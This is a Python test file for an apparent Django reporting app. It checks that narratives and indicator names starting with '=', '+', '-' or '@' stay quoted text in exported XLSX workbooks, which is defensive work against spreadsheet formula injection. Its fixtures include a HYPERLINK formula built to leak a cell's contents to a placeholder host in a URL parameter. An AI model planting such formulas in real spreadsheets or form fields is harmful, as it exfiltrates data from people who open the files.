"""Text that a spreadsheet would run as a formula stays text in every workbook (issue 9: a staff narrative starting
with "=" became a live HYPERLINK in the director's XLSX). The narrative goes in through the real path (the results
service), the indicator's name through the model the admin edits, and each workbook is read back with openpyxl."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from indicators.models import IndicatorDefinition, OrgUnit, Person, Result, Round
from indicators.services.results import EDITABLE_STATUSES, result_save
from reporting import services
from reporting.documents import agreement, book
from reporting.documents import scorecard as scorecard_doc
from reporting.documents.xlsx_text import neutralise_formulas
from reporting.tests.factories import person_user

pytestmark = pytest.mark.django_db

NARRATIVE = '=HYPERLINK("http://x",A1)'
OTHERS = {"obstacles_th": "+1+1 งบประมาณล่าช้า", "supporting_factors_th": "-ความร่วมมือของภาคี",
          "suggestions_th": "@SUM(A1:A9)"}
NAME = '=HYPERLINK("http://x/?leak="&B2,"ตัวชี้วัด")'


def workbook_of(data: bytes) -> Workbook:
    return load_workbook(io.BytesIO(data))


def cells_with(workbook: Workbook, text: str) -> list[Any]:
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]


def assert_kept_as_typed(workbook: Workbook, text: str) -> None:
    cells = cells_with(workbook, text)
    assert cells, f"{text!r} is not in the workbook"
    for cell in cells:
        assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)


def assert_no_formula(workbook: Workbook) -> None:
    formulas = [cell.coordinate for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []


@pytest.fixture
def typed(django_user_model: Any, kks: OrgUnit, round1: Round) -> Result:
    """A reporter of the demo division saves a narrative that starts with "=" (and others with + - @)."""
    reporter = person_user(django_user_model, "formula-staff", Person.Role.STAFF, [kks])
    result = Result.objects.filter(org_unit=kks, round=round1, status__in=EDITABLE_STATUSES).select_related(
        "assignment").first()
    assert result is not None
    saved = result_save(actor=reporter, assignment=result.assignment, org_unit=kks, round=round1,
                        values={"actions_th": NARRATIVE, **OTHERS}, expected_version=result.version)
    assert saved.actions_th == NARRATIVE
    return saved


def test_a_narrative_starting_with_equals_stays_text_in_the_report_book(typed: Result, kks: OrgUnit, round1: Round):
    services.score_jobs_drain()
    workbook = workbook_of(book.to_xlsx(book.build(org_unit=kks, fiscal_year=2566, round=round1)))
    assert_kept_as_typed(workbook, NARRATIVE)
    for text in OTHERS.values():
        assert_kept_as_typed(workbook, text)
    assert_no_formula(workbook)


def test_an_indicator_name_starting_with_equals_is_never_a_formula_in_the_scorecard_and_the_agreement(
        typed: Result, kks: OrgUnit, round1: Round):
    IndicatorDefinition.objects.filter(pk=typed.assignment.definition_id).update(name_th=NAME)
    services.score_jobs_drain()
    scorecard = workbook_of(scorecard_doc.to_xlsx(scorecard_doc.build(org_unit=kks, round=round1)))
    signed = workbook_of(agreement.to_xlsx(agreement.build(org_unit=kks, fiscal_year=2566)))
    for workbook in (scorecard, signed):
        named = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row
                 if NAME in str(cell.value or "")]
        assert named and all(cell.data_type == "s" for cell in named)
        assert all(cell.quotePrefix for cell in named if str(cell.value).startswith("="))
        assert_no_formula(workbook)


@pytest.mark.parametrize("text", ["=1+1", "+66812345678", "-5", "@cmd", "\tx", "\r=1", "= ช่องว่าง"])
def test_every_formula_start_is_neutralised_losslessly(text: str) -> None:
    workbook = Workbook()
    workbook.active.append([text, "ข้อความธรรมดา", 12.5, "a=b"])
    assert neutralise_formulas(workbook) == 1
    out = io.BytesIO()
    workbook.save(out)
    read = workbook_of(out.getvalue()).active
    shown = text.replace("\r", "\n")  # XML reads a carriage return as a line feed (openpyxl writes it unescaped)
    assert (read["A1"].data_type, read["A1"].value, read["A1"].quotePrefix) == ("s", shown, True)
    assert (read["B1"].quotePrefix, read["C1"].value, read["D1"].quotePrefix) == (False, 12.5, False)
